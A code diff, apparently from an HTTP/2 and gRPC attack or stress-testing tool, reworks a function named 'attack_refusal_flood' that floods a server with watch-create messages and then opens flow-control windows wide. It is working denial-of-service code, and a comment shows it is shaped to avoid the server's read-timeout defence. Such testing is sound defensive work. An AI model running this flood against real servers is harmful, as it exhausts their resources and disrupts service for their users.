@@ -688,21 +688,24 @@ async def attack_refusal_flood(opts, p):
     c.headers(sid, c.request_block(WATCH, never_index=True))
     msg = grpc_frame(watch_create(p['key'].encode(), prefix_end(p['key'].encode())))
     batch = p.get('batch', 500)
-    queued = 0
-    while queued < n and not c.stream(sid).finished and not c.closed:
-        k = min(batch, n - queued)
-        if not await c.send_data(sid, msg * k, timeout=hold / 1000):
+    s = c.stream(sid)
+    sent = 0
+    while sent < n and not s.finished and not c.closed:
+        # Whole creates only, as many as the windows hold: none is left half-sent (that
+        # would meet the server's read timeout, another defence than the one tried here).
+        room = lambda: min(c.conn_window, s.window) // len(msg)
+        if not await c.until(lambda: room() > 0 or s.finished, hold / 1000) or s.finished:
             break
-        queued += k
-    # Whole creates that went out (a batch may stop part way, when the window stays shut).
-    sent = c.stream(sid).sent // len(msg)
+        k = min(batch, n - sent, room())
+        if not await c.send_data(sid, msg * k):
+            break
+        sent += k
     await asyncio.sleep(hold / 1000)
     queued_at = c.ms()
     big = (1 << 31) - 1 - 65535
     c.auto_window = True
     c.write(frame(T_SETTINGS, 0, 0, settings_payload({S_INITIAL_WINDOW: 1 << 30})) + frame(T_WINDOW, 0, 0, big.to_bytes(4, 'big')))
     await c.drain()
-    s = c.stream(sid)
     last = [s.messages, c.ms()]
 
     def quiet():
